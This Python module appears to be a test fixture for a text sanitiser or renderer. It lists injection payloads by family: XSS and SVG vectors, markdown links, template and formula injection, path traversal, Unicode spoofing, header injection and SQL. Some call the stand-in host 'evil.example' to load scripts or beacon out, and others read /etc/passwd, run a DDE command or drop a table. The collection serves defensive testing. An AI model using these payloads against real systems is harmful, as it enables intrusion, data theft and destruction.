"""Texts that want to be more than text, by what they try. Each tries to set ``window.__hit``.

They are kept as data: nothing here is ever run on purpose. ``EVIL`` is a host nobody may ask.
"""

from __future__ import annotations

EVIL = "evil.example"
HIT = "window.__hit=1"
SCRIPT = (
    f"<script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT>",
    f"<script src=//{EVIL}/x.js></script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=//{EVIL}/p.png>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' onmouseover='{HIT}' x='",
    f"<body onload={HIT}>",
    f'<iframe src="javascript:parent.{HIT}"></iframe>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<object data=//{EVIL}/o></object><embed src=//{EVIL}/e>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<video><source onerror={HIT}></video>",
    f"<form action=//{EVIL}/f><button>Submit</button></form>",
    f'<meta http-equiv="refresh" content="0;url=//{EVIL}/m">',
    f'<base href="//{EVIL}/"><link rel=stylesheet href=//{EVIL}/c.css>',
    f"<template><script>{HIT}</script></template>",
    f"<!--><script>{HIT}</script-->",
    f'<noscript><p title="</noscript><script>{HIT}</script>">',
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
)
SVG = (
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{HIT}"><text y=9>x</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></math>",
    f"<svg><foreignObject><iframe src=//{EVIL}/></iframe></foreignObject></svg>",
)
MARKDOWN = (
    f"[press](javascript:{HIT})",
    f"[press](JaVaScRiPt&colon;{HIT})",
    f"[press](data:text/html,<script>{HIT}</script>)",
    f"[press](vbscript:x 'title\" onmouseover=\"{HIT}')",
    f"[press](//{EVIL}/l)",
    f"![seen](http://{EVIL}/pixel.png)",
    f'![" onerror="{HIT}](x)',
    f"![a](javascript:{HIT})",
    f"<javascript:{HIT}>",
    f"<http://{EVIL}/auto>",
    f"[ref]: javascript:{HIT}\n\n[ref]",
    f"<div>\n<script>{HIT}</script>\n</div>",
    f'```js"><img src=x onerror={HIT}>\nx\n```',
    f"| a | b |\n|---|:-:|\n| <img src=x onerror={HIT}> | [x](javascript:{HIT}) |",
    f"`<img src=x onerror={HIT}>`",
    f"# <svg onload={HIT}>\n\n> * 1. <b onclick={HIT}>",
    "*" * 400 + "a" + "_" * 400,
    "[" * 300 + "x" + "](y)" * 300,
    "> " * 200 + "deep",
)
TEMPLATE = (
    "{{7*7}}",
    "{{71327*93571}}",
    "${71327*93571} #{71327*93571} <%= 71327*93571 %>",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in request %}{{ x }}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# gone #}{{ csrf }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s {0.__class__} {actor}",
    "$(touch /tmp/x) `id` $HOME",
)
EVALUATED = str(71327 * 93571)
"""What stands on a page if anything works out what a text asks for."""
FORMULA = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{EVIL}","press")',
    f'=WEBSERVICE("http://{EVIL}")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    '"=1+1","x"\n=2+2',
)
PATH = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\CON",
    "CON.csv",
    "x\u0000.csv",
    "a/b?c#d%00&e=f",
    "n" * 1_000,
)
LETTERS = (
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u2067turned",
    "\u200fright to left\u200e",
    "\u0430dmin \u0435xample",
    "zero\u200bwidth\u200cjoin\u200d\ufeff\u2060",
    "\u0639\u0631\u0628\u064a \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Z" + "\u0311\u0348\u0333" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U000e0041\U000e0042tags",
    "\u001b[2Jcleared\u0007",
    "\\ud800 lone as an escape",
    "\ufffd\ufffe\uffff",
)
BREAKER = (
    f"</script><script>{HIT}</script>",
    f"</textarea></title></style><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    "line\u2028paragraph\u2029end",
    f"';{HIT};//",
    f'";{HIT};//',
    f'\\";{HIT};//',
    '{"__proto__": {"x": 1}}',
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "NaN",
    "1e309",
    "[" * 900 + "]" * 900,
)
STYLE = (
    f"<style>@import url(//{EVIL}/s.css);body{{display:none}}</style>",
    f'x" style="background:url(//{EVIL}/b)',
    f"</style><script>{HIT}</script>",
)
HEADER = (
    "x\r\nSet-Cookie: stolen=1",
    f"x\r\n\r\n<script>{HIT}</script>",
    "x%0d%0aLocation:%20//evil.example",
    'x"; filename="evil.html',
)
SQL = (
    "'; DROP TABLE studies; --",
    '" OR ""="',
    "1 UNION SELECT name FROM accounts --",
    "%' ESCAPE '\\",
)
FAMILIES = {
    "script": SCRIPT,
    "svg": SVG,
    "markdown": MARKDOWN,
    "template": TEMPLATE,
    "formula": FORMULA,
    "path": PATH,
    "letters": LETTERS,
    "breaker": BREAKER,
    "style": STYLE,
    "header": HEADER,
    "sql": SQL,
}
PAYLOADS = tuple(one for family in FAMILIES.values() for one in family)
"""All of them but the one that is only large."""
ALL = "\n\n".join(PAYLOADS)
"""All in one text: what the first opens, the next may find open."""
LARGE = (f"<script>{HIT}</script> **five** megabytes " * 200 + "\n\n") * 650
"""More than five megabytes."""


def in_line(at: int) -> str:
    """One payload on one line, as names and titles are; the same for the same number."""
    return " ".join(PAYLOADS[at % len(PAYLOADS)].split())
